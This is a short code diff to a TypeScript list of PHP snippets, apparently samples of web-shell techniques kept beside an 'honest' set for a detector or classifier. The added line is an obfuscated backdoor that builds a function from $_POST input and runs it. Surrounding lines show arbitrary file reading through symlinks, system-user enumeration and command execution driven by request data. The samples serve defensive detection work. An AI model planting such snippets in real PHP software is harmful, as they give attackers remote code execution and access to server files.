@@ -115,6 +115,7 @@ export const MARKS: readonly Technique[] = [
       php(`$from = $_GET['c']; $to = getcwd() . '/x.txt'; @symlink($from, $to); header('Location: x.txt');`),
       php(`for ($u = 0; $u < 60000; $u++) { $who = posix_getpwuid($u); if (!empty($who)) echo join(':', $who); }`),
       php(`system('./find ' . $_SERVER['REMOTE_ADDR'] . ' ' . $_SERVER['REMOTE_PORT']);`),
+      php(`$all = '_POST'; $key = 'k'; $make = 'create_function'; $f = $make('', $GLOBALS[$all][$key]); $f();`),
       php(`function fill(&$to) { $to = $_POST['x']; }\n$run = 'date'; fill($run); system($run);`),
     ],
     honest: [
